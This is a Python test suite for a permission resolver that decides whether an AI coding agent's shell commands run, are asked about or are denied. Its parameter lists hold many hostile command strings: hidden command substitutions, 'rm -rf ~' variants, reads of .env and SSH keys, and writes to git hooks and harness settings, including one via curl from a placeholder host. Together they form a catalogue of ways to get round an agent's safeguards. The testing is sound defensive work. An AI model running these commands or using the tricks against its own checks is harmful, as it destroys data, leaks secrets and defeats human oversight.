"""Each class of Bash bypass in the corpus, decided by the product's chain (the resolver).

One test per class, with several spellings each: the fix is for the class, so a new spelling
of the same trick must fall into it too. Every decision goes through `resolve_permission` with
the real Bash tool (perm_helpers.decide_bash), with rules and a mode.
"""

from __future__ import annotations

import subprocess
import tarfile
from pathlib import Path

import pytest

from tests.permissions.perm_helpers import BROAD, context, decide_bash, make_project

DENY = ("Read(./.env)", "Read(~/.ssh/**)", "Bash(rm *)", "Bash(git push *)", "Bash(curl *)")


@pytest.fixture
def proj(tmp_path: Path, home: Path) -> Path:
    """A git repository with a denied `.env`, a symlink leading outside and a secret in HOME."""
    root = make_project(tmp_path / "proj").resolve()
    (root / ".env").write_text("SECRET=1\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("KEY\n")
    git = ["git", "-C", str(root), "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run([*git, "add", "README.md", "src", "tests"], check=True)
    subprocess.run([*git, "commit", "-qm", "init"], check=True)
    return root


def verdict(command: str, proj: Path, **kw) -> str:
    return decide_bash(command, context(proj, **kw)).behavior


def refused(command: str, proj: Path, **kw) -> bool:
    return verdict(command, proj, **kw) in {"ask", "deny"}


# ---------------------------------------------------------------- family 1: hidden expansions


@pytest.mark.parametrize("command", [
    "echo ~$(touch pwned)", "grep ~`touch pwned` README.md", "echo ${x:-$(touch pwned)}",
    "echo ${a[$(touch pwned)]}", "test -v 'a[$(touch pwned)]'", "[ -v 'a[$(touch pwned)]' ]",
    "echo $'\\x41'$(touch pwned)", "x=$(touch pwned) ls", "ls > ~$(touch pwned)",
    "cat <<EOF\n$(touch pwned)\nEOF", "echo ${x@P}", "echo ${!x}",
])
def test_every_substitution_is_seen_wherever_it_hides(proj: Path, command: str) -> None:
    assert refused(command, proj, allow=BROAD), command
    assert verdict(command, proj, deny=("Bash(touch *)",)) in {"deny", "ask"}, command


@pytest.mark.parametrize("command", [
    "echo $?", "echo $HOME", 'echo "$PWD"', "printenv HOME", 'basename "$PWD"',
    "echo $(date)", "echo \"today: $(date +%F)\"", "echo \"on $(git branch --show-current)\"",
])
def test_plain_reads_and_read_only_substitutions_run(proj: Path, command: str) -> None:
    assert verdict(command, proj) == "allow", command


# ---------------------------------------------------------------- family 2: option tables


@pytest.mark.parametrize("command", [
    "sed -l 5 w f", "sed -es/a/b/w\\ out f.txt", "sed --exp=1w/tmp/x f", "sed -n --in-pl p f",
    "sed --i s/a/b/ f", "date -uf ~/.ssh/id_rsa", "sort -uo out f.txt", "sort --out=x f.txt",
    "wc --files0-from=list", "grep --fil=/etc/passwd x", "cp -t .git/hooks f",
    "cp --target-directory=.git/hooks f", "mv -t .claude f", "less --lesskey-s=k f",
    "grep --frobnicate x f", "cat -Z f",
])
def test_options_are_read_through_complete_tables(proj: Path, command: str) -> None:
    assert refused(command, proj, allow=("Bash(sed -n *)", "Bash(grep *)", "Bash(cat *)")), (
        command)


# ---------------------------------------------------------------- family 3: every reader


@pytest.mark.parametrize("command", [
    "rev .env", "paste .env", "fold .env", "column .env", "expand .env", "comm .env f",
    "join .env f", "diff --from-file=.env f", "git blame --contents .env README.md",
    "git diff --no-index .env f", "git show HEAD:.env", "grep -d recurse SECRET .",
    "nl .env", "tac .env", "od -c .env", "strings .env", "cut -c1- .env", "less .env",
])
def test_every_reader_meets_read_deny_rules(proj: Path, command: str) -> None:
    assert refused(command, proj, deny=DENY), command
    assert refused(command, proj, deny=DENY, mode="bypassPermissions"), command


@pytest.mark.parametrize("command", [
    "cat vendor/id_rsa", "cat vendor/../README.md", "rev ~/.ssh/id_rsa", "paste /etc/hostname",
    "cat /dev/fd/../../etc/hostname", "cat /proc/self/root/etc/hostname",
    "git diff --no-index /etc/hostname f", "date -f ~/.ssh/id_rsa", "cat ~root/.profile",
])
def test_reads_resolve_symlinks_before_the_working_directory_check(
        proj: Path, command: str) -> None:
    assert verdict(command, proj) == "ask", command


# ---------------------------------------------------------------- family 4: globs


@pytest.mark.parametrize("command,config", [
    ("cat .e*", {"deny": DENY}), ("cat .e?v", {"deny": DENY}), ("cat {.env,f}", {"deny": DENY}),
    ("head -1 .[e]nv", {"deny": DENY}), ("cp f .gi?/config", {"mode": "bypassPermissions"}),
    ("sed -i s/a/b/ .gi?/config", {"mode": "bypassPermissions"}),
    ("rm -rf .gi?", {"mode": "bypassPermissions"}), ("rm -rf .[!.]*", {"mode": "bypassPermissions"}),
    ("rm -rf ~+", {"mode": "bypassPermissions"}), ("rm -rf ~-/*", {"mode": "bypassPermissions"}),
    ("cat */id_rsa", {}), ("cat .*/secret", {}),
])
def test_globs_are_expanded_before_every_check(proj: Path, command: str, config: dict) -> None:
    (proj / ".git" / "config").touch()
    assert refused(command, proj, **config), command


def test_a_glob_after_a_write_in_the_same_command_is_unknown(proj: Path) -> None:
    assert verdict("touch ./-n.py; wc -l *.py", proj, mode="acceptEdits") == "ask"
    assert verdict("wc -l src/*.py", proj) == "allow"


# ---------------------------------------------------------------- family 5: wrappers, scripts


@pytest.mark.parametrize("command", [
    "/bin/rm -rf src", "exec rm -rf src", "nohup -- rm -rf src", "nice -n 5 rm x",
    "timeout -s KILL 5 rm x", "env -S'rm -rf src'", "env -i A=1 rm x", "busybox rm x",
    "stdbuf -oL rm x", "command rm x", "sudo -u root rm x", "xargs rm < list",
    "bash -ec 'rm x'", "sh -lc 'rm x'", "sh -c -- 'rm x'", "bash -s <<< 'rm x'",
    "echo 'rm x' | sh", "find . -exec rm {} +", "strace -f rm x", "watch rm x",
    "su -c 'rm x' root", "trap 'rm x' EXIT", "eval 'rm x'", "\\rm x", "r''m x",
])
def test_deny_rules_see_the_program_through_wrappers_and_shells(proj: Path, command: str) -> None:
    d = decide_bash(command, context(proj, deny=("Bash(rm *)",)))
    assert d.behavior == "deny", (command, d.reason)


def test_a_project_script_named_like_a_program_is_not_that_program(proj: Path) -> None:
    (proj / "git").write_text("#!/bin/sh\ntouch pwned\n")
    assert verdict("./git status", proj, allow=("Bash(git *)",)) == "ask"
    assert verdict("/usr/bin/git status", proj) == "allow"


# ---------------------------------------------------------------- family 6: git and tools


@pytest.mark.parametrize("command", [
    "git -P push", "git --no-pager push origin", "git --no-optional-locks push",
    "git --literal-pathspecs push", "git -c x.y=z push", "git -C . push", "/usr/bin/git push",
    "git send-pack ../x HEAD",
])
def test_git_deny_rules_see_the_subcommand_behind_global_options(proj: Path, command: str) -> None:
    assert verdict(command, proj, allow=BROAD, deny=("Bash(git push *)",)) == "deny", command


@pytest.mark.parametrize("command", [
    "git clone -c core.fsmonitor=x ../r c", "git clone --conf=core.fsmonitor=x ../r c",
    "git apply p.diff", "git archive -o ../out.zip HEAD", "git bundle create /tmp/b HEAD",
    "git commit -F ~/.ssh/id_rsa", "git log --output=/tmp/x", "git grep -O'touch x' x",
    "git -c core.pager='touch x' log", "python -m pytest --junitxml=/tmp/x",
    "python -m pytest -o cache_dir=/tmp/c", "python -m pytest --basetemp=.git/hooks",
    "npm run test --script-shell=./x", "less --lesskey-src=k f", "git config core.hooksPath h",
    "git remote add x ../evil",
])
def test_tool_options_that_write_or_execute_are_caught(proj: Path, command: str) -> None:
    (proj / "p.diff").write_text("--- a/.claude/settings.json\n+++ b/.claude/settings.json\n"
                                 "@@ -0,0 +1 @@\n+{}\n")
    assert refused(command, proj, allow=BROAD + ("Bash(npm run *)",)), command


# ---------------------------------------------------------------- family 7: two steps


def test_writes_to_files_git_or_the_harness_execute_later_are_protected(proj: Path) -> None:
    for target in (".git/config", ".git/hooks/pre-commit", ".gitattributes", ".gitmodules",
                   ".claude/settings.json", ".mcp.json", ".envrc", ".bashrc", "~/.ssh/config",
                   ".husky/pre-commit", ".vscode/tasks.json"):
        d = decide_bash(f"echo x > {target}", context(proj, mode="bypassPermissions"))
        assert d.behavior == "ask" and d.decided_by == "safety", target


def test_git_in_another_repository_asks_even_after_an_earlier_cd(proj: Path) -> None:
    clone = proj / "clone"
    subprocess.run(["git", "init", "-q", str(clone)], check=True)
    allow = ("Bash(git *)", "Bash(cd *)")
    assert verdict("cd clone && git status", proj, allow=allow) == "ask"
    d = decide_bash("git status", context(proj, allow=allow), shell_cwd=clone)
    assert d.behavior == "ask" and "repository" in d.reason
    assert decide_bash("git status", context(proj), shell_cwd=proj / "src").behavior == "allow"


def test_a_bare_repository_planted_in_the_project_is_foreign(proj: Path) -> None:
    bare = proj / "docs"
    (bare / "objects").mkdir()
    (bare / "refs").mkdir()
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    (bare / "config").write_text("[core]\n\tpager = touch pwned\n")
    assert decide_bash("git log", context(proj), shell_cwd=bare).behavior == "ask"


# ---------------------------------------------------------------- family 9: bypass safety


@pytest.mark.parametrize("command", [
    "find -delete", "find . -delete", "rm -rf .[!.]*", "rm -rf *", "rm -rf ~", "rm -rf $(pwd)",
    "bash -ec 'echo x > .git/hooks/x'", "sh -c 'rm -rf ~'", "cp f .git/hooks/post-checkout",
    "tee .claude/settings.json < f", "find . -path '*/.git/config' -delete",
    "tar -cf - src | tar -xf - -C .git/hooks", "install -D f .git/hooks/pre-commit",
    "xxd -r -p f .git/config", "curl -o .git/hooks/x http://x", "rsync -a f .git/hooks/",
    "git clone ../r .husky", "awk 'BEGIN{system(\"rm -rf ~\")}'", "sed 'e rm -rf ~' f",
    "find . -path './.git/*' | xargs rm", "find ~ | xargs rm -rf", "find . -path './.git/*' -delete",
    "ssh -o ProxyCommand='rm -rf ~' h", "printf 'rm -rf ~' | sh", "eval \"$(cat x)\"",
])
def test_critical_deletes_and_protected_writes_ask_in_bypass(proj: Path, command: str) -> None:
    d = decide_bash(command, context(proj, mode="bypassPermissions"))
    assert d.behavior == "ask" and d.decided_by == "safety", (command, d.reason)


def test_an_archive_is_listed_before_it_is_extracted(proj: Path) -> None:
    evil = proj / "evil.tar"
    with tarfile.open(evil, "w") as handle:
        handle.add(proj / "f", arcname=".git/hooks/pre-commit")
    with tarfile.open(proj / "fine.tar", "w") as handle:
        handle.add(proj / "f", arcname="out/f")
    assert verdict("tar -xf evil.tar", proj, mode="bypassPermissions") == "ask"
    assert verdict("tar -xf fine.tar", proj, mode="bypassPermissions") == "allow"


# ---------------------------------------------------------------- false positives


@pytest.mark.parametrize("command", [
    "echo $?", "echo $HOME", 'echo "$PWD"', "printenv HOME", 'basename "$PWD"', "echo $(date)",
    "python --version", "node --version", "git --version", "git log --follow -- README.md",
    "git remote show", "env | grep -i path", "find . -name '*.py' | xargs grep foo",
    "find . -name '*.py' -exec wc -l {} +", "git ls-files | xargs wc -l", "ulimit -n",
    "ls -d */", "sha256sum f.txt", "declare -p HOME", "node -v", "ls src/*.py | xargs wc -l",
    "git ls-files '*.py' | xargs grep -n import", "ls 2>/dev/null; true", "realpath .",
    "[[ -e README.md ]] && echo yes", "echo $((1 + 2))", "cat <<'EOF'\n$(not run)\nEOF",
    "diff <(ls src) <(ls tests)", "find . -name '*.md' -print0 | xargs -0 wc -c",
])
def test_everyday_reads_run_without_a_prompt(proj: Path, command: str) -> None:
    d = decide_bash(command, context(proj))
    assert d.behavior == "allow", (command, d.reason)


def test_xargs_and_exec_names_are_checked_in_the_tree(proj: Path, home: Path) -> None:
    (proj / "src" / "evil.py").symlink_to(home / ".ssh" / "id_rsa")
    assert verdict("find . -name '*.py' | xargs cat", proj) == "ask"
    assert verdict("find . -name '*.py' -exec cat {} +", proj) == "ask"
    assert verdict("find . -name '*.md' -exec cat {} +", proj) == "allow"
    (proj / "a b.md").write_text("x")
    assert verdict("find . -name '*.md' | xargs cat", proj) == "ask"
    assert verdict("echo /etc/passwd | xargs cat", proj) == "ask"


# ---------------------------------------------------------------- git rewriting the work tree


def _branch_with(proj: Path, name: str, path: str) -> None:
    git = ["git", "-C", str(proj), "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "checkout", "-qb", name], check=True)
    (proj / path).parent.mkdir(parents=True, exist_ok=True)
    (proj / path).write_text("{}\n")
    subprocess.run([*git, "add", "-f", path], check=True)
    subprocess.run([*git, "commit", "-qm", name], check=True)
    subprocess.run([*git, "checkout", "-q", "-"], check=True)


def test_git_asks_git_which_files_a_checkout_writes(proj: Path) -> None:
    _branch_with(proj, "evil", ".claude/settings.json")
    _branch_with(proj, "fine", "docs/more.md")
    bypass = context(proj, mode="bypassPermissions")
    for command in ("git checkout -q evil", "git switch evil", "git merge -q evil",
                    "git reset -q --hard evil", "git cherry-pick evil", "git restore -s evil .",
                    "git checkout evil -- .claude", "git read-tree -u --reset evil"):
        d = decide_bash(command, bypass)
        assert d.behavior == "ask" and ".claude" in d.reason, (command, d.reason)
    assert decide_bash("git checkout -q fine", bypass).behavior == "allow"
    assert decide_bash("git pull origin main", bypass).behavior == "ask"  # unknown content


def test_git_clean_and_rm_meet_the_protected_and_critical_checks(proj: Path) -> None:
    (proj / ".gitignore").write_text(".claude/\n")
    (proj / ".claude").mkdir()
    (proj / ".claude" / "settings.local.json").write_text("{}")
    bypass = context(proj, mode="bypassPermissions")
    for command in ("git clean -fdX", "git clean -ffdx", "git stash -q --all", "git rm -rqf ."):
        assert decide_bash(command, bypass).behavior == "ask", command
    assert decide_bash("git clean -fd src", bypass).behavior == "allow"


@pytest.mark.parametrize("command", [
    "git bisect run rm x", "git rebase -x 'rm x' HEAD~1", "git submodule foreach rm x",
    "git filter-branch --tree-filter 'rm x' HEAD", "printf 'rm\\0x' | xargs -0 env",
])
def test_commands_git_and_xargs_run_meet_deny_rules(proj: Path, command: str) -> None:
    d = decide_bash(command, context(proj, deny=("Bash(rm *)",), mode="bypassPermissions"))
    assert d.behavior in {"deny", "ask"} and d.behavior != "allow", (command, d.reason)


@pytest.mark.parametrize("command", [
    "ln -s .env e; cat e", "ln -sf .env e && head e", "cat /proc/self/cwd/.env",
    "cat /proc/$$/cwd/.env", "cat /proc/self/root/proc/self/cwd/.env",
])
def test_links_made_now_and_per_process_links_are_unknown(proj: Path, command: str) -> None:
    d = decide_bash(command, context(proj, deny=DENY, mode="bypassPermissions"))
    assert d.behavior == "ask", (command, d.reason)


@pytest.mark.parametrize("command", ["echo ../*", "echo ~/*", "printf '%s\\n' ~-/*",
                                     ": ../*; echo $_", "echo ~+/../*"])
def test_a_glob_reads_the_directory_it_lists(proj: Path, command: str) -> None:
    assert verdict(command, proj) == "ask", command


def test_a_link_to_a_program_is_that_program(proj: Path) -> None:
    """`ln -s /bin/rm del` in one call, `./del x` in the next: rules and safety see rm."""
    (proj / "del").symlink_to("/bin/rm")
    assert verdict("./del victim.txt", proj, deny=("Bash(rm *)",)) == "deny"
    assert verdict("./del -rf ~", proj, mode="bypassPermissions") == "ask"


@pytest.mark.parametrize("command", [
    "perl -pi -e 's/x/y/' .git/config", "ruby -i -pe 1 .git/config",
    "split -b 1 f .git/hooks/pre-", "csplit -f .claude/x f /a/", "gunzip .git/hooks/x.gz",
    "gcc -o .git/hooks/pre-commit x.c", "strace -o .git/hooks/x true",
    "script -c true .git/hooks/y", "mktemp .git/hooks/XXXX", "diff -r . docs > /dev/null; true",
])
def test_programs_that_write_where_their_options_say_meet_the_protected_check(
        proj: Path, command: str) -> None:
    d = decide_bash(command, context(proj, mode="bypassPermissions"))
    if command.startswith("diff"):  # not a write: a walk that follows the outward symlink
        assert verdict(command, proj) == "ask"
        return
    assert d.behavior == "ask" and d.decided_by == "safety", (command, d.reason)


def test_git_after_an_earlier_git_call_of_the_same_command_cannot_be_asked(proj: Path) -> None:
    _branch_with(proj, "evil", ".husky/pre-commit")
    bypass = context(proj, mode="bypassPermissions")
    for command in ("git checkout -q -b y evil", "git switch -q -C x evil",
                    "git reset -q --soft evil && git reset -q --hard",
                    "git update-ref HEAD evil && git reset -q --hard",
                    "git read-tree evil && git checkout-index -a -f",
                    "git reset -q evil && git checkout -q -- ."):
        assert decide_bash(command, bypass).behavior == "ask", command
    assert decide_bash("git checkout -q -b topic", bypass).behavior == "allow"


def test_a_compressor_to_stdout_still_reads_its_file(proj: Path) -> None:
    d = decide_bash("gzip -c .env | gunzip", context(proj, deny=DENY, mode="bypassPermissions"))
    assert d.behavior == "deny"
